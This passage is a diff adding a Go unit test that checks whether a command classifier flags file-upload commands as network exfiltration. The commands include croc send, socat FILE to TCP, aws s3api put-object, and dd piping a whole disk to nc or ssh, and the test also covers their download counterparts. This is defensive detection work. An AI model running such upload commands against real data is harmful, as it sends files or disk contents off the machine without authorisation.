@@ -492,3 +492,42 @@ func TestServedShells(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestTransferPuts: file-transfer clients' upload forms, from their own
+// documentation — croc(1)/magic-wormhole "send FILE", megaput, ncftpput
+// HOST DIR FILE, busybox tftp -p -l FILE, lftp -e "put FILE", aws s3api
+// put-object --body, oci os object put --file, b2 upload-file, rclone
+// rcat fed a file, socat FILE: to TCP:, a disk image piped to nc or ssh
+// (README: a local file sent to another host is network-exfiltration).
+// Their receive, list and download forms stay everyday.
+func TestTransferPuts(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`croc send notes.txt`, NetworkExfiltration},
+		{`wormhole send notes.txt`, NetworkExfiltration},
+		{`megaput notes.txt`, NetworkExfiltration},
+		{`ncftpput -u user -p pw ftp.example.com /incoming notes.txt`, NetworkExfiltration},
+		{`busybox tftp -p -l notes.txt -r notes.txt 10.0.0.9`, NetworkExfiltration},
+		{`lftp -e "put notes.txt; bye" -u user,pw ftp.example.com`, NetworkExfiltration},
+		{`lftp -c "open ftp.example.com; mirror -R site /www"`, NetworkExfiltration},
+		{`aws s3api put-object --bucket b --key k --body notes.txt`, NetworkExfiltration},
+		{`oci os object put --bucket-name b --file notes.txt`, NetworkExfiltration},
+		{`b2 upload-file b notes.txt notes.txt`, NetworkExfiltration},
+		{`cat notes.txt | rclone rcat remote:notes.txt`, NetworkExfiltration},
+		{`socat -u FILE:notes.txt TCP:10.0.0.9:4444`, NetworkExfiltration},
+		{`dd if=/dev/sda | gzip | nc 10.0.0.9 4444`, NetworkExfiltration},
+		{`dd if=/dev/sda bs=4M | ssh user@10.0.0.9 "dd of=disk.img"`, NetworkExfiltration},
+		{`croc 7-crossover-clockwork`, ""},
+		{`wormhole receive 7-crossover-clockwork`, ""},
+		{`lftp -e "get notes.txt; bye" ftp.example.com`, ""},
+		{`lftp -c "open ftp.example.com; mirror /www site"`, ""},
+		{`tftp -g -r notes.txt 10.0.0.9`, ""},
+		{`aws s3api get-object --bucket b --key k out.txt`, ""},
+		{`socat -u TCP:10.0.0.9:4444 FILE:out.bin,create`, ""},
+		{`socat FILE:/dev/ttyUSB0,b115200,raw TCP:10.0.0.9:4444`, ""},
+		{`cat setup.sh | ssh user@10.0.0.9 bash`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
